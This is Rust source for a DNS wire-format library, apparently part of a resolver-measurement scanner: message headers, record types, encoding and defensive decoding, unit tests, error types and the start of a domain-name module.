    pub id: u16,
    /// Query (`false`) or response (`true`).
    pub response: bool,
    /// Operation code.
    pub opcode: Opcode,
    /// Authoritative Answer.
    pub authoritative: bool,
    /// TrunCation.
    pub truncated: bool,
    /// Recursion Desired. Cache snooping sends RD=0 on purpose.
    pub recursion_desired: bool,
    /// Recursion Available.
    pub recursion_available: bool,
    /// Authentic Data (RFC 4035): the responder validated the answer
    /// with DNSSEC. The Sec. 5 injector-race experiment keys on this.
    pub authentic_data: bool,
    /// Checking Disabled (RFC 4035).
    pub checking_disabled: bool,
    /// Response code.
    pub rcode: Rcode,
}

impl Header {
    /// A fresh query header.
    pub fn query(id: u16) -> Self {
        Header {
            id,
            response: false,
            opcode: Opcode::Query,
            authoritative: false,
            truncated: false,
            recursion_desired: true,
            recursion_available: false,
            authentic_data: false,
            checking_disabled: false,
            rcode: Rcode::NoError,
        }
    }

    fn flags_word(&self) -> u16 {
        let mut w = 0u16;
        if self.response {
            w |= 0x8000;
        }
        w |= (self.opcode.to_u8() as u16) << 11;
        if self.authoritative {
            w |= 0x0400;
        }
        if self.truncated {
            w |= 0x0200;
        }
        if self.recursion_desired {
            w |= 0x0100;
        }
        if self.recursion_available {
            w |= 0x0080;
        }
        if self.authentic_data {
            w |= 0x0020;
        }
        if self.checking_disabled {
            w |= 0x0010;
        }
        w |= self.rcode.to_u8() as u16;
        w
    }

    fn from_flags_word(id: u16, w: u16) -> Self {
        Header {
            id,
            response: w & 0x8000 != 0,
            opcode: Opcode::from_u8((w >> 11) as u8),
            authoritative: w & 0x0400 != 0,
            truncated: w & 0x0200 != 0,
            recursion_desired: w & 0x0100 != 0,
            recursion_available: w & 0x0080 != 0,
            authentic_data: w & 0x0020 != 0,
            checking_disabled: w & 0x0010 != 0,
            rcode: Rcode::from_u8(w as u8),
        }
    }
}

/// A question-section entry.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Question {
    /// Queried name.
    pub qname: Name,
    /// Queried record type.
    pub qtype: RecordType,
    /// Queried class.
    pub qclass: RecordClass,
}

/// Typed record data. Unmodelled types carry opaque bytes so they
/// survive a decode→encode round trip unchanged.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum RData {
    /// IPv4 address.
    A(Ipv4Addr),
    /// IPv6 address.
    Aaaa(Ipv6Addr),
    /// Authoritative name server.
    Ns(Name),
    /// Canonical-name alias target.
    Cname(Name),
    /// Reverse-DNS pointer target.
    Ptr(Name),
    /// Mail exchange: preference and exchange host.
    Mx {
        /// Lower is preferred.
        preference: u16,
        /// Mail host.
        exchange: Name,
    },
    /// Character strings (joined by [`RData::txt_joined`]).
    Txt(Vec<Vec<u8>>),
    /// Start of authority.
    Soa {
        /// Primary name server.
        mname: Name,
        /// Responsible mailbox.
        rname: Name,
        /// Zone serial.
        serial: u32,
        /// Secondary refresh interval (s).
        refresh: u32,
        /// Retry interval (s).
        retry: u32,
        /// Expiry (s).
        expire: u32,
        /// Negative-caching TTL (s).
        minimum: u32,
    },
    /// Raw RDATA of an unmodelled record type.
    Opaque(Vec<u8>),
}

impl RData {
    /// The record type this data corresponds to, if structurally typed.
    pub fn record_type(&self) -> Option<RecordType> {
        Some(match self {
            RData::A(_) => RecordType::A,
            RData::Aaaa(_) => RecordType::Aaaa,
            RData::Ns(_) => RecordType::Ns,
            RData::Cname(_) => RecordType::Cname,
            RData::Ptr(_) => RecordType::Ptr,
            RData::Mx { .. } => RecordType::Mx,
            RData::Txt(_) => RecordType::Txt,
            RData::Soa { .. } => RecordType::Soa,
            RData::Opaque(_) => return None,
        })
    }

    /// Convenience accessor: the IPv4 address of an `A` record.
    pub fn as_a(&self) -> Option<Ipv4Addr> {
        match self {
            RData::A(ip) => Some(*ip),
            _ => None,
        }
    }

    /// Convenience accessor: TXT strings joined into one `String`
    /// (lossy UTF-8) — how `version.bind` answers are consumed.
    pub fn txt_joined(&self) -> Option<String> {
        match self {
            RData::Txt(parts) => Some(
                parts
                    .iter()
                    .map(|p| String::from_utf8_lossy(p).into_owned())
                    .collect::<Vec<_>>()
                    .join(""),
            ),
            _ => None,
        }
    }

    fn encode_into(&self, buf: &mut Vec<u8>) {
        match self {
            RData::A(ip) => buf.extend_from_slice(&ip.octets()),
            RData::Aaaa(ip) => buf.extend_from_slice(&ip.octets()),
            RData::Ns(n) | RData::Cname(n) | RData::Ptr(n) => n.encode_into(buf),
            RData::Mx {
                preference,
                exchange,
            } => {
                buf.extend_from_slice(&preference.to_be_bytes());
                exchange.encode_into(buf);
            }
            RData::Txt(parts) => {
                for p in parts {
                    buf.push(p.len().min(255) as u8);
                    buf.extend_from_slice(&p[..p.len().min(255)]);
                }
            }
            RData::Soa {
                mname,
                rname,
                serial,
                refresh,
                retry,
                expire,
                minimum,
            } => {
                mname.encode_into(buf);
                rname.encode_into(buf);
                buf.extend_from_slice(&serial.to_be_bytes());
                buf.extend_from_slice(&refresh.to_be_bytes());
                buf.extend_from_slice(&retry.to_be_bytes());
                buf.extend_from_slice(&expire.to_be_bytes());
                buf.extend_from_slice(&minimum.to_be_bytes());
            }
            RData::Opaque(bytes) => buf.extend_from_slice(bytes),
        }
    }
}

/// A resource record (answer, authority, or additional section entry).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ResourceRecord {
    /// Owner name.
    pub name: Name,
    /// Record type.
    pub rtype: RecordType,
    /// Record class.
    pub rclass: RecordClass,
    /// Time to live, in seconds.
    pub ttl: u32,
    /// Typed record data.
    pub rdata: RData,
}

impl ResourceRecord {
    /// Build an `A` record.
    pub fn a(name: Name, ttl: u32, ip: Ipv4Addr) -> Self {
        ResourceRecord {
            name,
            rtype: RecordType::A,
            rclass: RecordClass::In,
            ttl,
            rdata: RData::A(ip),
        }
    }

    /// Build an `NS` record.
    pub fn ns(name: Name, ttl: u32, target: Name) -> Self {
        ResourceRecord {
            name,
            rtype: RecordType::Ns,
            rclass: RecordClass::In,
            ttl,
            rdata: RData::Ns(target),
        }
    }

    /// Build a CHAOS-class `TXT` record (e.g. a `version.bind` answer).
    pub fn chaos_txt(name: Name, text: &str) -> Self {
        ResourceRecord {
            name,
            rtype: RecordType::Txt,
            rclass: RecordClass::Ch,
            ttl: 0,
            rdata: RData::Txt(vec![text.as_bytes().to_vec()]),
        }
    }
}

/// A complete DNS message.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Message {
    /// Fixed header.
    pub header: Header,
    /// Question section.
    pub questions: Vec<Question>,
    /// Answer section.
    pub answers: Vec<ResourceRecord>,
    /// Authority section.
    pub authorities: Vec<ResourceRecord>,
    /// Additional section.
    pub additionals: Vec<ResourceRecord>,
}

impl Message {
    /// Encode to wire format. Names are emitted uncompressed; the result
    /// is always a valid DNS packet.
    pub fn encode(&self) -> Vec<u8> {
        let mut buf = Vec::with_capacity(64);
        buf.extend_from_slice(&self.header.id.to_be_bytes());
        buf.extend_from_slice(&self.header.flags_word().to_be_bytes());
        buf.extend_from_slice(&(self.questions.len() as u16).to_be_bytes());
        buf.extend_from_slice(&(self.answers.len() as u16).to_be_bytes());
        buf.extend_from_slice(&(self.authorities.len() as u16).to_be_bytes());
        buf.extend_from_slice(&(self.additionals.len() as u16).to_be_bytes());
        for q in &self.questions {
            q.qname.encode_into(&mut buf);
            buf.extend_from_slice(&q.qtype.to_u16().to_be_bytes());
            buf.extend_from_slice(&q.qclass.to_u16().to_be_bytes());
        }
        for rr in self
            .answers
            .iter()
            .chain(&self.authorities)
            .chain(&self.additionals)
        {
            rr.name.encode_into(&mut buf);
            buf.extend_from_slice(&rr.rtype.to_u16().to_be_bytes());
            buf.extend_from_slice(&rr.rclass.to_u16().to_be_bytes());
            buf.extend_from_slice(&rr.ttl.to_be_bytes());
            let mut rdata = Vec::new();
            rr.rdata.encode_into(&mut rdata);
            buf.extend_from_slice(&(rdata.len() as u16).to_be_bytes());
            buf.extend_from_slice(&rdata);
        }
        buf
    }

    /// Decode from wire format. Tolerates trailing bytes after the last
    /// announced record (some CPE stacks pad packets) but rejects any
    /// structural inconsistency inside the announced sections.
    pub fn decode(packet: &[u8]) -> Result<Message, DecodeError> {
        if packet.len() < 12 {
            return Err(DecodeError::Truncated { context: "header" });
        }
        let id = u16::from_be_bytes([packet[0], packet[1]]);
        let flags = u16::from_be_bytes([packet[2], packet[3]]);
        let qd = u16::from_be_bytes([packet[4], packet[5]]) as usize;
        let an = u16::from_be_bytes([packet[6], packet[7]]) as usize;
        let ns = u16::from_be_bytes([packet[8], packet[9]]) as usize;
        let ar = u16::from_be_bytes([packet[10], packet[11]]) as usize;

        let mut pos = 12usize;
        let mut questions = Vec::with_capacity(qd.min(16));
        for _ in 0..qd {
            let (qname, next) = Name::decode(packet, pos)?;
            pos = next;
            let rest = packet
                .get(pos..pos + 4)
                .ok_or(DecodeError::SectionOverrun {
                    section: "question",
                })?;
            let qtype = RecordType::from_u16(u16::from_be_bytes([rest[0], rest[1]]));
            let qclass = RecordClass::from_u16(u16::from_be_bytes([rest[2], rest[3]]));
            pos += 4;
            questions.push(Question {
                qname,
                qtype,
                qclass,
            });
        }

        let decode_section = |count: usize,
                              section: &'static str,
                              pos: &mut usize|
         -> Result<Vec<ResourceRecord>, DecodeError> {
            let mut records = Vec::with_capacity(count.min(32));
            for _ in 0..count {
                let (name, next) = Name::decode(packet, *pos)?;
                *pos = next;
                let fixed = packet
                    .get(*pos..*pos + 10)
                    .ok_or(DecodeError::SectionOverrun { section })?;
                let rtype = RecordType::from_u16(u16::from_be_bytes([fixed[0], fixed[1]]));
                let rclass = RecordClass::from_u16(u16::from_be_bytes([fixed[2], fixed[3]]));
                let ttl = u32::from_be_bytes([fixed[4], fixed[5], fixed[6], fixed[7]]);
                let rdlen = u16::from_be_bytes([fixed[8], fixed[9]]) as usize;
                *pos += 10;
                let rdata_start = *pos;
                let rdata_end = rdata_start + rdlen;
                if packet.len() < rdata_end {
                    return Err(DecodeError::BadRdLength {
                        expected: rdlen,
                        available: packet.len().saturating_sub(rdata_start),
                    });
                }
                let rdata = decode_rdata(packet, rdata_start, rdata_end, rtype)?;
                *pos = rdata_end;
                records.push(ResourceRecord {
                    name,
                    rtype,
                    rclass,
                    ttl,
                    rdata,
                });
            }
            Ok(records)
        };

        let answers = decode_section(an, "answer", &mut pos)?;
        let authorities = decode_section(ns, "authority", &mut pos)?;
        let additionals = decode_section(ar, "additional", &mut pos)?;

        Ok(Message {
            header: Header::from_flags_word(id, flags),
            questions,
            answers,
            authorities,
            additionals,
        })
    }

    /// All IPv4 addresses in the answer section, in order.
    pub fn answer_ips(&self) -> Vec<Ipv4Addr> {
        self.answers
            .iter()
            .filter_map(|rr| rr.rdata.as_a())
            .collect()
    }

    /// The EDNS0 advertised UDP payload size, if an OPT pseudo-record is
    /// present in the additional section (RFC 6891 stores it in the
    /// CLASS field).
    pub fn edns_udp_size(&self) -> Option<u16> {
        self.additionals
            .iter()
            .find(|rr| rr.rtype == RecordType::Opt)
            .map(|rr| rr.rclass.to_u16())
    }
}

fn decode_rdata(
    packet: &[u8],
    start: usize,
    end: usize,
    rtype: RecordType,
) -> Result<RData, DecodeError> {
    let raw = &packet[start..end];
    let rdata = match rtype {
        RecordType::A if raw.len() == 4 => RData::A(Ipv4Addr::new(raw[0], raw[1], raw[2], raw[3])),
        RecordType::Aaaa if raw.len() == 16 => {
            let mut o = [0u8; 16];
            o.copy_from_slice(raw);
            RData::Aaaa(Ipv6Addr::from(o))
        }
        RecordType::Ns | RecordType::Cname | RecordType::Ptr => {
            // Names inside RDATA may use compression pointers into the
            // full packet, so decode against `packet`, not `raw`.
            let (name, next) = Name::decode(packet, start)?;
            if next > end {
                return Err(DecodeError::BadRdLength {
                    expected: end - start,
                    available: next - start,
                });
            }
            match rtype {
                RecordType::Ns => RData::Ns(name),
                RecordType::Cname => RData::Cname(name),
                _ => RData::Ptr(name),
            }
        }
        RecordType::Mx if raw.len() >= 3 => {
            let preference = u16::from_be_bytes([raw[0], raw[1]]);
            let (exchange, next) = Name::decode(packet, start + 2)?;
            if next > end {
                return Err(DecodeError::BadRdLength {
                    expected: end - start,
                    available: next - start,
                });
            }
            RData::Mx {
                preference,
                exchange,
            }
        }
        RecordType::Txt => {
            let mut parts = Vec::new();
            let mut p = 0usize;
            while p < raw.len() {
                let l = raw[p] as usize;
                p += 1;
                if p + l > raw.len() {
                    return Err(DecodeError::BadCharacterString);
                }
                parts.push(raw[p..p + l].to_vec());
                p += l;
            }
            RData::Txt(parts)
        }
        RecordType::Soa => {
            let (mname, next) = Name::decode(packet, start)?;
            let (rname, next2) = Name::decode(packet, next)?;
            let fixed = packet
                .get(next2..next2 + 20)
                .ok_or(DecodeError::Truncated {
                    context: "SOA fixed fields",
                })?;
            if next2 + 20 > end {
                return Err(DecodeError::BadRdLength {
                    expected: end - start,
                    available: next2 + 20 - start,
                });
            }
            RData::Soa {
                mname,
                rname,
                serial: u32::from_be_bytes([fixed[0], fixed[1], fixed[2], fixed[3]]),
                refresh: u32::from_be_bytes([fixed[4], fixed[5], fixed[6], fixed[7]]),
                retry: u32::from_be_bytes([fixed[8], fixed[9], fixed[10], fixed[11]]),
                expire: u32::from_be_bytes([fixed[12], fixed[13], fixed[14], fixed[15]]),
                minimum: u32::from_be_bytes([fixed[16], fixed[17], fixed[18], fixed[19]]),
            }
        }
        _ => RData::Opaque(raw.to_vec()),
    };
    Ok(rdata)
}

/// Fluent builder for queries and responses.
///
/// ```
/// use dnswire::{MessageBuilder, Name, RecordType, Rcode};
/// use std::net::Ipv4Addr;
///
/// let q = MessageBuilder::query(7, Name::parse("a.example").unwrap(), RecordType::A).build();
/// let r = MessageBuilder::response_to(&q, Rcode::NoError)
///     .answer_a(Name::parse("a.example").unwrap(), 300, Ipv4Addr::new(192, 0, 2, 1))
///     .build();
/// assert_eq!(r.header.id, 7);
/// assert_eq!(r.answer_ips(), vec![Ipv4Addr::new(192, 0, 2, 1)]);
/// ```
#[derive(Debug, Clone)]
pub struct MessageBuilder {
    msg: Message,
}

impl MessageBuilder {
    /// Start a standard `IN`-class query.
    pub fn query(id: u16, qname: Name, qtype: RecordType) -> Self {
        MessageBuilder {
            msg: Message {
                header: Header::query(id),
                questions: vec![Question {
                    qname,
                    qtype,
                    qclass: RecordClass::In,
                }],
                answers: Vec::new(),
                authorities: Vec::new(),
                additionals: Vec::new(),
            },
        }
    }

    /// Start a CHAOS-class TXT query (`version.bind` style).
    pub fn chaos_query(id: u16, qname: Name) -> Self {
        let mut b = Self::query(id, qname, RecordType::Txt);
        b.msg.questions[0].qclass = RecordClass::Ch;
        b.msg.header.recursion_desired = false;
        b
    }

    /// Start a response mirroring the query's ID and question section.
    pub fn response_to(query: &Message, rcode: Rcode) -> Self {
        MessageBuilder {
            msg: Message {
                header: Header {
                    id: query.header.id,
                    response: true,
                    opcode: query.header.opcode,
                    authoritative: false,
                    truncated: false,
                    recursion_desired: query.header.recursion_desired,
                    recursion_available: true,
                    authentic_data: false,
                    checking_disabled: query.header.checking_disabled,
                    rcode,
                },
                questions: query.questions.clone(),
                answers: Vec::new(),
                authorities: Vec::new(),
                additionals: Vec::new(),
            },
        }
    }

    /// Set the RD flag (cache snooping clears it).
    pub fn recursion_desired(mut self, rd: bool) -> Self {
        self.msg.header.recursion_desired = rd;
        self
    }

    /// Set the RA flag.
    pub fn recursion_available(mut self, ra: bool) -> Self {
        self.msg.header.recursion_available = ra;
        self
    }

    /// Mark the response authoritative.
    pub fn authoritative(mut self, aa: bool) -> Self {
        self.msg.header.authoritative = aa;
        self
    }

    /// Set the Authentic Data bit (DNSSEC-validated answer).
    pub fn authentic_data(mut self, ad: bool) -> Self {
        self.msg.header.authentic_data = ad;
        self
    }

    /// Append an `A` answer.
    pub fn answer_a(mut self, name: Name, ttl: u32, ip: Ipv4Addr) -> Self {
        self.msg.answers.push(ResourceRecord::a(name, ttl, ip));
        self
    }

    /// Append an arbitrary answer record.
    pub fn answer(mut self, rr: ResourceRecord) -> Self {
        self.msg.answers.push(rr);
        self
    }

    /// Append an authority record.
    pub fn authority(mut self, rr: ResourceRecord) -> Self {
        self.msg.authorities.push(rr);
        self
    }

    /// Advertise EDNS0 with the given UDP payload size (adds an OPT
    /// pseudo-record to the additional section, RFC 6891). Scanners use
    /// this to receive responses larger than the classic 512 bytes.
    pub fn edns(mut self, udp_size: u16) -> Self {
        self.msg.additionals.push(ResourceRecord {
            name: Name::root(),
            rtype: RecordType::Opt,
            rclass: RecordClass::Other(udp_size),
            ttl: 0, // extended RCODE + flags, all zero here
            rdata: RData::Opaque(Vec::new()),
        });
        self
    }

    /// Finish building.
    pub fn build(self) -> Message {
        self.msg
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn name(s: &str) -> Name {
        Name::parse(s).unwrap()
    }

    #[test]
    fn query_round_trip() {
        let q = MessageBuilder::query(0xbeef, name("www.example.com"), RecordType::A).build();
        let wire = q.encode();
        let d = Message::decode(&wire).unwrap();
        assert_eq!(d, q);
        assert!(!d.header.response);
        assert!(d.header.recursion_desired);
    }

    #[test]
    fn response_with_multiple_answers() {
        let q = MessageBuilder::query(1, name("cdn.example"), RecordType::A).build();
        let r = MessageBuilder::response_to(&q, Rcode::NoError)
            .answer_a(name("cdn.example"), 60, Ipv4Addr::new(192, 0, 2, 1))
            .answer_a(name("cdn.example"), 60, Ipv4Addr::new(192, 0, 2, 2))
            .build();
        let d = Message::decode(&r.encode()).unwrap();
        assert_eq!(
            d.answer_ips(),
            vec![Ipv4Addr::new(192, 0, 2, 1), Ipv4Addr::new(192, 0, 2, 2)]
        );
        assert!(d.header.response);
        assert_eq!(d.header.id, 1);
    }

    #[test]
    fn chaos_version_bind_round_trip() {
        let q = MessageBuilder::chaos_query(42, name("version.bind")).build();
        assert_eq!(q.questions[0].qclass, RecordClass::Ch);
        let r = MessageBuilder::response_to(&q, Rcode::NoError)
            .answer(ResourceRecord::chaos_txt(name("version.bind"), "9.8.2rc1"))
            .build();
        let d = Message::decode(&r.encode()).unwrap();
        assert_eq!(d.answers[0].rdata.txt_joined().unwrap(), "9.8.2rc1");
        assert_eq!(d.answers[0].rclass, RecordClass::Ch);
    }

    #[test]
    fn ns_soa_mx_round_trip() {
        let q = MessageBuilder::query(9, name("example.org"), RecordType::Any).build();
        let r = MessageBuilder::response_to(&q, Rcode::NoError)
            .answer(ResourceRecord::ns(
                name("example.org"),
                3600,
                name("ns1.example.org"),
            ))
            .answer(ResourceRecord {
                name: name("example.org"),
                rtype: RecordType::Mx,
                rclass: RecordClass::In,
                ttl: 300,
                rdata: RData::Mx {
                    preference: 10,
                    exchange: name("mail.example.org"),
                },
            })
            .authority(ResourceRecord {
                name: name("example.org"),
                rtype: RecordType::Soa,
                rclass: RecordClass::In,
                ttl: 86400,
                rdata: RData::Soa {
                    mname: name("ns1.example.org"),
                    rname: name("hostmaster.example.org"),
                    serial: 2015102800,
                    refresh: 7200,
                    retry: 900,
                    expire: 1209600,
                    minimum: 300,
                },
            })
            .build();
        let d = Message::decode(&r.encode()).unwrap();
        assert_eq!(d, r);
    }

    #[test]
    fn empty_answer_noerror_decodes() {
        // The paper explicitly counts NOERROR responses with empty answer
        // sections (Sec. 2.2) — make sure they are representable.
        let q = MessageBuilder::query(3, name("nx.example"), RecordType::A).build();
        let r = MessageBuilder::response_to(&q, Rcode::NoError).build();
        let d = Message::decode(&r.encode()).unwrap();
        assert!(d.answers.is_empty());
        assert_eq!(d.header.rcode, Rcode::NoError);
    }

    #[test]
    fn truncated_header_rejected() {
        assert!(matches!(
            Message::decode(&[0u8; 5]),
            Err(DecodeError::Truncated { .. })
        ));
    }

    #[test]
    fn section_count_overrun_rejected() {
        let q = MessageBuilder::query(1, name("x.example"), RecordType::A).build();
        let mut wire = q.encode();
        // Claim 4 questions but provide 1.
        wire[5] = 4;
        assert!(Message::decode(&wire).is_err());
    }

    #[test]
    fn bad_rdlength_rejected() {
        let q = MessageBuilder::query(1, name("x.example"), RecordType::A).build();
        let r = MessageBuilder::response_to(&q, Rcode::NoError)
            .answer_a(name("x.example"), 1, Ipv4Addr::new(1, 2, 3, 4))
            .build();
        let mut wire = r.encode();
        let len = wire.len();
        // Inflate the final RDLENGTH (the two bytes before the 4-byte IP).
        wire[len - 6] = 0xff;
        assert!(matches!(
            Message::decode(&wire),
            Err(DecodeError::BadRdLength { .. })
        ));
    }

    #[test]
    fn opaque_record_round_trips() {
        let q = MessageBuilder::query(5, name("x.example"), RecordType::Other(99)).build();
        let r = MessageBuilder::response_to(&q, Rcode::NoError)
            .answer(ResourceRecord {
                name: name("x.example"),
                rtype: RecordType::Other(99),
                rclass: RecordClass::In,
                ttl: 0,
                rdata: RData::Opaque(vec![1, 2, 3, 4, 5]),
            })
            .build();
        let d = Message::decode(&r.encode()).unwrap();
        assert_eq!(d.answers[0].rdata, RData::Opaque(vec![1, 2, 3, 4, 5]));
    }

    #[test]
    fn trailing_garbage_tolerated() {
        let q = MessageBuilder::query(1, name("x.example"), RecordType::A).build();
        let mut wire = q.encode();
        wire.extend_from_slice(&[0xde, 0xad]);
        assert!(Message::decode(&wire).is_ok());
    }

    #[test]
    fn edns_opt_round_trip() {
        let q = MessageBuilder::query(0x11, name("big.example"), RecordType::A)
            .edns(4096)
            .build();
        assert_eq!(q.edns_udp_size(), Some(4096));
        let d = Message::decode(&q.encode()).unwrap();
        assert_eq!(d.edns_udp_size(), Some(4096));
        assert_eq!(d.additionals.len(), 1);
        assert_eq!(d.additionals[0].rtype, RecordType::Opt);
        // Messages without OPT report none.
        let plain = MessageBuilder::query(1, name("x.example"), RecordType::A).build();
        assert_eq!(plain.edns_udp_size(), None);
    }

    #[test]
    fn decodes_response_with_name_compression() {
        // Hand-build a compressed response: question at offset 12,
        // answer name is a pointer to it.
        let q = MessageBuilder::query(0x0102, name("a.example.com"), RecordType::A).build();
        let mut wire = q.encode();
        wire[7] = 1; // ANCOUNT = 1
        wire.extend_from_slice(&[0xc0, 0x0c]); // pointer to offset 12
        wire.extend_from_slice(&RecordType::A.to_u16().to_be_bytes());
        wire.extend_from_slice(&RecordClass::In.to_u16().to_be_bytes());
        wire.extend_from_slice(&60u32.to_be_bytes());
        wire.extend_from_slice(&4u16.to_be_bytes());
        wire.extend_from_slice(&[198, 51, 100, 7]);
        let d = Message::decode(&wire).unwrap();
        assert_eq!(d.answers[0].name, name("a.example.com"));
        assert_eq!(d.answer_ips(), vec![Ipv4Addr::new(198, 51, 100, 7)]);
    }
}
