//! Error types for wire decoding and name parsing.

use std::fmt;

/// Errors produced while decoding a DNS message from the wire.
///
/// The decoder treats all input as untrusted; every variant corresponds
/// to a malformed packet that a hostile or buggy resolver could emit.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DecodeError {
    /// The packet ended before a fixed-size field could be read.
    Truncated {
        /// What the decoder was trying to read.
        context: &'static str,
    },
    /// A compression pointer referenced an offset at or beyond its own
    /// position, or the pointer chain exceeded the loop budget.
    BadPointer {
        /// Offset of the offending pointer.
        offset: usize,
    },
    /// A label length byte used the reserved `0b10xx_xxxx` / `0b01xx_xxxx`
    /// prefixes (EDNS0 extended labels are not supported).
    BadLabelType {
        /// The offending length byte.
        byte: u8,
    },
    /// A decoded name exceeded the RFC 1035 limit of 255 octets.
    NameTooLong,
    /// The RDLENGTH field disagreed with the actual record data size.
    BadRdLength {
        /// Octets the RDLENGTH announced.
        expected: usize,
        /// Octets actually available.
        available: usize,
    },
    /// A TXT record character-string ran past the record boundary.
    BadCharacterString,
    /// Trailing garbage after all announced sections were decoded is
    /// tolerated, but a section count pointing past the packet is not.
    SectionOverrun {
        /// Which section overran.
        section: &'static str,
    },
}

impl fmt::Display for DecodeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DecodeError::Truncated { context } => {
                write!(f, "packet truncated while reading {context}")
            }
            DecodeError::BadPointer { offset } => {
                write!(f, "invalid compression pointer at offset {offset}")
            }
            DecodeError::BadLabelType { byte } => {
                write!(f, "unsupported label type byte {byte:#04x}")
            }
            DecodeError::NameTooLong => write!(f, "domain name exceeds 255 octets"),
            DecodeError::BadRdLength {
                expected,
                available,
            } => write!(
                f,
                "RDLENGTH announces {expected} octets but only {available} are available"
            ),
            DecodeError::BadCharacterString => write!(f, "malformed character-string in RDATA"),
            DecodeError::SectionOverrun { section } => {
                write!(f, "{section} section count exceeds packet contents")
            }
        }
    }
}

impl std::error::Error for DecodeError {}

/// Errors produced while parsing a textual domain name.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum NameError {
    /// A single label exceeded 63 octets.
    LabelTooLong {
        /// The offending label.
        label: String,
    },
    /// The whole name exceeded 255 octets in wire form.
    NameTooLong,
    /// An empty label appeared in the middle of the name (`a..b`).
    EmptyLabel,
}

impl fmt::Display for NameError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            NameError::LabelTooLong { label } => {
                write!(f, "label `{label}` exceeds 63 octets")
            }
            NameError::NameTooLong => write!(f, "name exceeds 255 octets"),
            NameError::EmptyLabel => write!(f, "empty label inside name"),
        }
    }
}

impl std::error::Error for NameError {}
