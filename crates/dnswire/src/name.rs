//! Domain names: label storage, textual parsing, wire decoding with
//! compression-pointer support, and case-insensitive semantics.

use crate::error::{DecodeError, NameError};
use serde::{Deserialize, Serialize};
use std::fmt;

/// Maximum number of octets in a wire-encoded name (RFC 1035 §3.1).
pub const MAX_NAME_WIRE_LEN: usize = 255;
/// Maximum number of octets in a single label.
pub const MAX_LABEL_LEN: usize = 63;
/// Budget for chasing compression pointers before declaring a loop.
const MAX_POINTER_HOPS: usize = 64;

/// A fully-qualified domain name, stored as a sequence of labels.
///
/// `Name` preserves the byte-exact casing it was parsed or decoded with —
/// this is essential for the 0x20-encoding correlator in the scanner,
/// which recovers information bits from answer casing — while equality
/// and hashing are ASCII-case-insensitive per RFC 1035 §2.3.3.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Name {
    labels: Vec<Vec<u8>>,
}

impl Name {
    /// The root name (`.`).
    pub fn root() -> Self {
        Name { labels: Vec::new() }
    }

    /// Parse a textual name such as `www.example.com` or `example.com.`.
    ///
    /// A single trailing dot is accepted and ignored; interior empty
    /// labels are rejected. The empty string and `"."` parse to the root.
    pub fn parse(text: &str) -> Result<Self, NameError> {
        let trimmed = text.strip_suffix('.').unwrap_or(text);
        if trimmed.is_empty() {
            return Ok(Name::root());
        }
        let mut labels = Vec::new();
        let mut wire_len = 1usize; // trailing root byte
        for part in trimmed.split('.') {
            if part.is_empty() {
                return Err(NameError::EmptyLabel);
            }
            if part.len() > MAX_LABEL_LEN {
                return Err(NameError::LabelTooLong {
                    label: part.to_string(),
                });
            }
            wire_len += 1 + part.len();
            labels.push(part.as_bytes().to_vec());
        }
        if wire_len > MAX_NAME_WIRE_LEN {
            return Err(NameError::NameTooLong);
        }
        Ok(Name { labels })
    }

    /// Construct from raw labels. Used by the wire decoder and by code
    /// that synthesizes names programmatically (e.g. the hex-IP encoder).
    pub fn from_labels(labels: Vec<Vec<u8>>) -> Result<Self, NameError> {
        let mut wire_len = 1usize;
        for l in &labels {
            if l.is_empty() {
                return Err(NameError::EmptyLabel);
            }
            if l.len() > MAX_LABEL_LEN {
                return Err(NameError::LabelTooLong {
                    label: String::from_utf8_lossy(l).into_owned(),
                });
            }
            wire_len += 1 + l.len();
        }
        if wire_len > MAX_NAME_WIRE_LEN {
            return Err(NameError::NameTooLong);
        }
        Ok(Name { labels })
    }

    /// Labels of this name, outermost (leftmost) first.
    pub fn labels(&self) -> &[Vec<u8>] {
        &self.labels
    }

    /// Number of labels.
    pub fn label_count(&self) -> usize {
        self.labels.len()
    }

    /// `true` for the root name.
    pub fn is_root(&self) -> bool {
        self.labels.is_empty()
    }

    /// Wire-encoded length in octets, including the terminating root byte.
    pub fn wire_len(&self) -> usize {
        1 + self.labels.iter().map(|l| 1 + l.len()).sum::<usize>()
    }

    /// Prepend a label, as the scanner does when adding random cache-busting
    /// prefixes (`prefix.hex-ip.domain.edu`).
    pub fn prepend(&self, label: &str) -> Result<Self, NameError> {
        let mut labels = Vec::with_capacity(self.labels.len() + 1);
        labels.push(label.as_bytes().to_vec());
        labels.extend(self.labels.iter().cloned());
        Name::from_labels(labels)
    }

    /// Returns `true` if `self` equals `suffix` or ends with its labels
    /// (case-insensitively). `a.b.example.com` is a subdomain of
    /// `example.com`; every name is a subdomain of the root.
    pub fn is_subdomain_of(&self, suffix: &Name) -> bool {
        if suffix.labels.len() > self.labels.len() {
            return false;
        }
        self.labels
            .iter()
            .rev()
            .zip(suffix.labels.iter().rev())
            .all(|(a, b)| eq_ignore_case(a, b))
    }

    /// The parent domain (one label removed), or `None` at the root.
    pub fn parent(&self) -> Option<Name> {
        if self.labels.is_empty() {
            None
        } else {
            Some(Name {
                labels: self.labels[1..].to_vec(),
            })
        }
    }

    /// Lower-cased textual form without trailing dot (root renders as `.`).
    /// This is the canonical key used by resolver caches and databases.
    pub fn to_ascii_lower(&self) -> String {
        if self.labels.is_empty() {
            return ".".to_string();
        }
        let mut out = String::with_capacity(self.wire_len());
        for (i, l) in self.labels.iter().enumerate() {
            if i > 0 {
                out.push('.');
            }
            for &b in l {
                out.push(b.to_ascii_lowercase() as char);
            }
        }
        out
    }

    /// Encode into `buf` (always uncompressed).
    pub fn encode_into(&self, buf: &mut Vec<u8>) {
        for l in &self.labels {
            buf.push(l.len() as u8);
            buf.extend_from_slice(l);
        }
        buf.push(0);
    }

    /// Decode a name from `packet` starting at `offset`.
    ///
    /// Follows RFC 1035 compression pointers (which may only point
    /// backwards), enforcing the 255-octet name limit and a pointer-hop
